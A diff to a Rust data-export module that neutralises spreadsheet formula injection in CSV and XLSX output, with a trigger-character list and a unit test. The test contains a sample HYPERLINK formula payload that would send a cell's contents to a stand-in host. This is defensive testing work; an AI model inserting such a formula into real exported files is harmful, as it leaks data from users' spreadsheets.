@@ -8,7 +8,10 @@
 //!   dataset never names a record that is not public, and its foreign keys always resolve);
 //! - objects, lists of objects, geo points and `history`: nested JSON in JSON, the same JSON
 //!   written compactly in a CSV or XLSX cell;
-//! - dates `YYYY-MM-DD`; money a number of yuan; absent values `null` / an empty cell.
+//! - dates `YYYY-MM-DD`; money a number of yuan; absent values `null` / an empty cell;
+//! - in CSV and XLSX only, text that a spreadsheet would run as a formula (it begins with `=`,
+//!   `+`, `-`, `@`, a tab or a carriage return) gets a leading `'`, as OWASP recommends against
+//!   CSV injection; numbers, dates and JSON/NDJSON keep their exact values.
 
 use crate::config::{Collection, FieldDef, FieldType, Personal};
 use crate::domain::RecordId;
@@ -22,6 +25,19 @@ use std::io::{self, Write};
 
 /// Separator of list items in CSV and XLSX cells.
 pub const LIST_SEPARATOR: &str = "; ";
+
+/// First characters that make Excel, LibreOffice or Google Sheets read a cell as a formula
+/// (OWASP, "CSV Injection"): a record's text must never run in a journalist's spreadsheet.
+pub const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// `text` as a spreadsheet cell's text: with a leading `'` when it would start a formula.
+pub fn neutralise_formula(text: &str) -> Cow<'_, str> {
+    if text.starts_with(FORMULA_TRIGGERS) {
+        Cow::Owned(format!("'{text}"))
+    } else {
+        Cow::Borrowed(text)
+    }
+}
 
 /// What a column holds.
 #[derive(Debug, Clone, Copy)]
@@ -120,6 +136,26 @@ impl Cell {
                     .join(LIST_SEPARATOR),
             ),
             Cell::Json(j) => Cow::Owned(j.to_string()),
+        }
+    }
+
+    /// The cell as text in a spreadsheet-bound file (CSV, XLSX text cells): [`Cell::text`],
+    /// with text that would start a formula neutralised. Numbers are left as they are, so a
+    /// negative integer stays a number.
+    pub fn spreadsheet_text(&self) -> Cow<'_, str> {
+        match self {
+            Cell::Text(text) => neutralise_formula(text),
+            // Their text is built for the cell anyway: quoted in place when it must be.
+            Cell::List(_) | Cell::Json(_) => {
+                let mut text = self.text().into_owned();
+                if text.starts_with(FORMULA_TRIGGERS) {
+                    text.insert(0, '\'');
+                }
+                Cow::Owned(text)
+            }
+            Cell::Null | Cell::Integer(_) | Cell::Money(_) | Cell::Date(_) | Cell::Bool(_) => {
+                self.text()
+            }
         }
     }
 }
@@ -276,7 +312,7 @@ impl serde::Serialize for Cell {
 }
 
 /// A CSV file: UTF-8 with a byte-order mark (so Excel detects UTF-8), a header of column keys,
-/// RFC 4180 quoting and CRLF line ends.
+/// RFC 4180 quoting and CRLF line ends; text that would start a formula is neutralised.
 pub fn write_csv<W: Write>(columns: &[Column], rows: &[Vec<Cell>], out: W) -> io::Result<W> {
     let mut out = out;
     out.write_all("\u{feff}".as_bytes())?;
@@ -286,7 +322,7 @@ pub fn write_csv<W: Write>(columns: &[Column], rows: &[Vec<Cell>], out: W) -> io
     w.write_record(columns.iter().map(|c| c.key))?;
     for row in rows {
         for cell in row {
-            w.write_field(cell.text().as_bytes())?;
+            w.write_field(cell.spreadsheet_text().as_bytes())?;
         }
         w.write_record(std::iter::empty::<&[u8]>())?;
     }
@@ -475,6 +511,24 @@ mod tests {
         let (empty, none) = JsonFiles::new(Vec::new(), Vec::new()).finish().unwrap();
         assert_eq!(empty, b"[\n]\n");
         assert!(none.is_empty());
+    }
+
+    #[test]
+    fn text_that_would_start_a_formula_gets_a_quote_in_spreadsheets_only() {
+        let payload = "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"x\")";
+        for text in [payload, "-", "+8613900000000", "@SUM(A1)", "\tx", "\rx"] {
+            let cell = Cell::Text(text.into());
+            assert_eq!(cell.spreadsheet_text(), format!("'{text}"), "{text:?}");
+            assert_eq!(cell.text(), text, "{text:?}");
+            assert_eq!(cell.json(), json!(text), "{text:?}");
+        }
+        for text in ["西安", "a-b", "'=already quoted", " =x", ""] {
+            assert_eq!(Cell::Text(text.into()).spreadsheet_text(), text);
+        }
+        let list = Cell::List(vec![Cell::Text("=1+1".into()), Cell::Text("b".into())]);
+        assert_eq!(list.spreadsheet_text(), "'=1+1; b");
+        assert_eq!(Cell::Integer(-42).spreadsheet_text(), "-42");
+        assert_eq!(Cell::Money(Money(5)).spreadsheet_text(), "0.05");
     }
 
     #[test]
